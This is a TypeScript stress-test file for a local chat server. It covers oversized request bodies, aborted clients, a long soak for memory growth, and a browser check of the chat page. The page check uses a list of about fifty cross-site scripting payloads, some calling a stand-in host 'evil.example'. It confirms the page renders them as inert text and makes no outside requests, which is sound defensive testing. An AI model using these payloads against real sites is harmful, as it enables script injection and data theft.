/**
 * A server under what it must stand: bodies without an end, clients that leave at any moment, thousands of requests, and a
 * page whose conversation is full of programs. Everyday tests do the same on a small scale (`tests/serve/`).
 */
import OpenAI from "openai";
import { Engine } from "../../chat/engine.ts";
import { mixedRequests } from "../serve/mixed.ts";
import { asking, EchoModel, post, sendEndless, statusOf, withServer } from "../serve/support.ts";
import { withFolder } from "../support/files.ts";
import { uniform } from "../support/random.ts";
import { Browser } from "./browser.ts";
import type { CampaignOptions, CampaignRow } from "./campaign.ts";

const MODEL = new URL("../../demo/model", import.meta.url).pathname;
const REQUESTS = 10_000;
const LEAVINGS = 100;
/** Requests before those that count: by then the collectors have found their pace. */
const WARM_UP = 2000;
const MOST_GROWTH = 0.05;

type Part = (options: CampaignOptions) => Promise<Omit<CampaignRow, "part">>;

function rss(): number {
  return Deno.memoryUsage().rss;
}

/** A gigabyte in chunks, and one whose length is told. */
async function bodies(): Promise<Omit<CampaignRow, "part">> {
  const faults: string[] = [];
  let most = 0;
  await withServer(new EchoModel(), async ({ port, url }) => {
    for (const isChunked of [true, false]) {
      const before = rss();
      const { answer, sent } = await sendEndless(port, {
        most: 2 ** 30,
        host: `127.0.0.1:${port}`,
        isChunked,
      });
      if (![413, 0].includes(statusOf(answer))) faults.push(`answered ${answer.slice(0, 60)}`);
      if (isChunked && sent > 2 ** 25) faults.push(`${sent} bytes were taken`);
      most = Math.max(most, rss() - before);
      const next = await post(`${url}/v1/chat/completions`, asking("a b"));
      if ((await next.json()).choices[0].message.content !== "b a") faults.push("the next request failed");
    }
  });
  if (most > 2 ** 26) faults.push(`memory grew by ${most} bytes`);
  return { tried: 2, counts: { "MiB grown": Math.round(most / 2 ** 20) }, faults };
}

/** Clients that leave at any moment, streamed or not: the device is idle soon after. */
const leaving: Part = async ({ count = LEAVINGS, seed }) => {
  const random = uniform(seed);
  const faults: string[] = [];
  let worst = 0;
  using engine = await Engine.open({ baseModel: MODEL });
  await withServer(engine, async ({ url }) => {
    const isIdle = async () => {
      const text = await (await fetch(`${url}/metrics`)).text();
      return text.includes("longreach_requests_running 0\n") &&
        text.includes("longreach_requests_waiting 0\n");
    };
    for (let i = 0; i < count; i++) {
      const client = new AbortController();
      const body = asking("the old lamp", { max_tokens: 250, ignore_eos: true, stream: i % 2 === 0 });
      const answered = post(`${url}/v1/chat/completions`, body, { signal: client.signal }).then((each) =>
        each.text()
      );
      answered.catch(() => {});
      await new Promise((resolve) => setTimeout(resolve, 700 * random()));
      client.abort();
      const left = performance.now();
      while (!await isIdle()) await new Promise((resolve) => setTimeout(resolve, 5));
      worst = Math.max(worst, performance.now() - left);
    }
  });
  if (worst > 1000) faults.push(`the device worked for ${worst.toFixed(0)} ms more`);
  return { tried: count, counts: { "ms at most": Math.round(worst) }, faults };
};

/** All kinds of requests, twenty at once: none is lost or mixed up, and memory does not grow. */
const soak: Part = async ({ count = REQUESTS, say }) => {
  const faults: string[] = [];
  let grown = 0;
  using engine = await Engine.open({ baseModel: MODEL });
  await withServer(engine, async ({ url }) => {
    const client = new OpenAI({ baseURL: `${url}/v1`, apiKey: "none", maxRetries: 0 });
    const rounds = 20;
    await mixedRequests(client, { count: WARM_UP, atOnce: 20, tokens: 2 });
    const settled = rss();
    for (let round = 1; round <= rounds; round++) {
      const { lost, mixed } = await mixedRequests(client, { count: count / rounds, atOnce: 20, tokens: 2 });
      faults.push(...lost, ...mixed);
      say(`  ${round * count / rounds}: ${(rss() / 2 ** 20).toFixed(1)} MiB`);
    }
    grown = rss() / settled - 1;
  }, { queueSize: 30 });
  if (grown > MOST_GROWTH) faults.push(`memory grew by ${(100 * grown).toFixed(1)} %`);
  return { tried: count, counts: { "% grown": Number((100 * grown).toFixed(1)) }, faults };
};

/** Programs as pages have been made to run them; each calls `alert`, or asks another site. */
const PROGRAMS: readonly string[] = [
  "<script>alert(1)</script>",
  "<script/src=https://evil.example/x.js></script>",
  "<img/src=x/onerror=alert(1)>",
  "<img/src=https://evil.example/x.png>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate/onbegin=alert(1)/attributeName=x/dur=1s>",
  "<math><mtext><img/src=x/onerror=alert(1)></mtext></math>",
  "<body/onload=alert(1)>",
  "<iframe/src=javascript:alert(1)>",
  "<iframe/srcdoc='<script>alert(1)</script>'>",
  "<iframe/src=https://evil.example/>",
  "<object/data=javascript:alert(1)>",
  "<embed/src=javascript:alert(1)>",
  "<a/href=javascript:alert(1)/autofocus/onfocus=alert(1)>x</a>",
  "<input/autofocus/onfocus=alert(1)>",
  "<select/autofocus/onfocus=alert(1)>",
  "<textarea/autofocus/onfocus=alert(1)>",
  "<details/open/ontoggle=alert(1)>",
  "<video/src=x/onerror=alert(1)>",
  "<audio/src=x/onerror=alert(1)>",
  "<video><source/onerror=alert(1)></video>",
  "<marquee/onstart=alert(1)>",
  "<style>@import'https://evil.example/x.css';</style>",
  "<style>*{background:url(https://evil.example/x)}</style>",
  "<link/rel=stylesheet/href=https://evil.example/x.css>",
  "<link/rel=prefetch/href=https://evil.example/x>",
  "<meta/http-equiv=refresh/content=0;url=https://evil.example>",
  "<base/href=https://evil.example/>",
  "<form/action=https://evil.example><button/autofocus/onfocus=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "</div><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "'\"><script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script\u0000>alert(1)</script>",
  "\u202e<script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "[x](javascript:alert(1))",
  "![x](https://evil.example/x.png)",
  "${alert(1)}{{alert(1)}}<%=alert(1)%>",
  'data:{"choices":[]}',
  "\u2028alert(1)\u2029//",
  "__proto__",
];

/** Each program as a question, as the model's answer, and as a document with a name of its own. */
async function page(): Promise<Omit<CampaignRow, "part">> {
  const faults: string[] = [];
  await withServer(new EchoModel(), async ({ url }) => {
    await withFolder(async (folder) => {
      await using browser = await Browser.open(folder);
      await browser.send("Page.navigate", { url });
      await browser.until("document.getElementById('model').textContent === 'echo'");
      for (const [i, program] of PROGRAMS.entries()) {
        const text = JSON.stringify(program);
        await browser.evaluate(`(() => {
          const files = new DataTransfer();
          files.items.add(new File([${text}], ${text} + ".txt"));
          document.getElementById("file").files = files.files;
          document.getElementById("file").dispatchEvent(new Event("change"));
        })()`);
        await browser.until("!document.getElementById('document').hidden");
        await browser.evaluate(`(() => {
          document.getElementById("question").value = ${text};
          document.getElementById("send").click();
        })()`);
        await browser.until(`document.querySelectorAll(".turn.assistant:not(.writing)").length === ${i + 1}`);
        const shown = await browser.evaluate(
          `[...document.querySelectorAll(".turn:nth-last-child(-n+2) .text")].map((each) => each.textContent)`,
        ) as string[];
        if (!shown[1]?.includes(program.split(/\s/)[0]!)) {
          faults.push(`${text} is shown as ${JSON.stringify(shown)}`);
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 500));
      faults.push(...browser.events);
      faults.push(...browser.requests.filter((each) => !each.startsWith(url)).map((each) => `asked ${each}`));
    });
  }, { maxMessages: 1000 });
  return { tried: PROGRAMS.length, counts: {}, faults };
}

const PARTS: Readonly<Record<string, Part>> = { bodies, leaving, soak, page };

/** Runs each part. */
export async function* run(options: CampaignOptions): AsyncIterable<CampaignRow> {
  for (const [part, trial] of Object.entries(PARTS)) {
    if (options.only === undefined || options.only === part) yield { part, ...await trial(options) };
  }
}
